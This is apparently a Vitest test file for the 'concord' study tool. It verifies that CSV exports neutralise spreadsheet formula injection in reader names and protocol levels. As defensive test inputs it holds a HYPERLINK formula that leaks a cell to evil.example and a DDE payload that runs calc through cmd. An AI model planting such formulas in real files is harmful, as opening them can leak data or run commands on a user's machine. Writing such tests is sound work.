import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StudyOverview } from '../../core/ipc/contract';
import type { ItemAgreement } from '../../core/agreement/itemAgreement';
import type { StudyReport } from '../../core/report/studyReport';
import { referenceProtocol } from '../../core/studies/protocol';
import { parseCsv } from '../../core/tables/parseCsv';
import { concord } from '../helpers/concord';
import { ok, setUpReadingStudy, type ReadingStudyFixture } from '../helpers/readingStudy';
import { readCohort } from '../helpers/scriptedReaders';
import { makeTempDir } from '../helpers/tempDir';

/**
 * Issue 13 (6): reader names and protocol levels reached reads.csv as `=HYPERLINK(…)` and other
 * cells a spreadsheet runs as formulas. A study whose readers and levels are exactly such text is
 * read, unblinded and exported: every CSV cell that starts with `=`, `+`, `-`, `@`, tab or CR
 * has a leading apostrophe unless it is a plain number; the JSON export keeps the text as it is;
 * `concord agreement` reads the CSV back to the same readers, levels and numbers as the report.
 */

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const command = "-1+cmd|' /C calc'!A0";
const enhancementLevels = ['@SUM(1+1)*cmd', '+hyper'];
const burdenLevels = ['-1', '0', '=1+2', '\u2212minus sign'];

let temp: ReturnType<typeof makeTempDir>;
let f: ReadingStudyFixture;
let report: StudyReport;
let csvPath: string;
let jsonPath: string;

beforeAll(async () => {
  temp = makeTempDir('concord-csv-injection-');
  const protocol = {
    ...referenceProtocol,
    items: [
      { id: 'enhancement', label: 'Enhancement', scope: 'baseline', kind: 'nominal', levels: enhancementLevels },
      { id: 'burden', label: 'Burden', scope: 'baseline', kind: 'ordinal', levels: burdenLevels },
    ],
  };
  f = await setUpReadingStudy(temp.path, 2, { protocol, readerNames: [hyperlink, command] });
  const demo = join(temp.path, 'demo');
  await readCohort(f, demo, 0, {
    caliperScale: () => 1,
    enhancement: (i) => enhancementLevels[i % 2]!,
    burden: (i) => burdenLevels[i % 4]!,
  });
  await readCohort(f, demo, 1, {
    caliperScale: (i) => 1 + 0.05 * (i % 3),
    enhancement: (i) => enhancementLevels[i === 2 ? 1 : i % 2]!,
    burden: (i) => burdenLevels[(i + (i === 1 ? 1 : 0)) % 4]!,
  });
  ok<StudyOverview>(await f.services.dispatch('unblindStudy', { studyId: f.study.id }, f.coordinator));
  csvPath = ok<{ path: string }>(
    await f.services.dispatch('exportStudyReads', { studyId: f.study.id, format: 'csv' }, f.coordinator),
  ).path;
  jsonPath = ok<{ path: string }>(
    await f.services.dispatch('exportStudyReads', { studyId: f.study.id, format: 'json' }, f.coordinator),
  ).path;
  report = ok<StudyReport>(await f.services.dispatch('getStudyAgreement', { studyId: f.study.id }, f.coordinator));
}, 240_000);
afterAll(async () => {
  await f.services.close();
  temp.cleanup();
});

const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe('CSV exports guard against formula injection', () => {
  it('writes no cell a spreadsheet would run as a formula, in the export and the report reads.csv alike', () => {
    const text = readFileSync(csvPath, 'utf8');
    expect(report.readsCsv).toBe(text);
    const cells = parseCsv(text).flatMap((r) => r.fields);
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !plainNumber.test(c));
    expect(risky).toEqual([]);
    // The guarded cells, as a spreadsheet shows them: text after an apostrophe.
    expect(cells).toContain(`'${hyperlink}`);
    expect(cells).toContain(`'${command}`);
    expect(cells).toContain("'@SUM(1+1)*cmd");
    expect(cells).toContain("'+hyper");
    expect(cells).toContain("'=1+2");
    // Numbers stay numbers: the level "-1", negative changes of the sum.
    expect(cells).toContain('-1');
    expect(cells.some((c) => /^-\d+\.\d$/.test(c))).toBe(true);
    // A minus sign that is not ASCII is no formula character.
    expect(cells).toContain('\u2212minus sign');
  });

  it('leaves the JSON export as it was: the names and levels as typed', () => {
    const json = readFileSync(jsonPath, 'utf8');
    expect(json).toContain(JSON.stringify(hyperlink));
    expect(json).toContain(JSON.stringify(command));
    expect(json).not.toContain(`'=1+2`);
    expect(json).toContain('"=1+2"');
  });

  it('reads its own CSV back equal: concord agreement gives the report its readers, levels and numbers', async () => {
    const protocolPath = join(temp.path, 'protocol.json');
    writeFileSync(protocolPath, JSON.stringify({ items: report.items }));
    const cli = await concord('agreement', '--reads', csvPath, '--protocol', protocolPath, '--json');
    expect(cli.stderr).toBe('');
    expect(cli.code).toBe(0);
    const items = JSON.parse(cli.stdout) as ItemAgreement[];
    expect(items).toEqual(report.agreement);
    const burden = items.find((i) => i.item === 'burden')!;
    expect(burden.raters).toEqual([command, hyperlink].sort());
    expect(burden.levels).toEqual(burdenLevels);
    expect(burden.n).toBe(4);
    expect(burden.kappa).toBeTypeOf('number');
    expect(items.find((i) => i.item === 'enhancement')!.confusion!.levels).toEqual(enhancementLevels);
  });
});
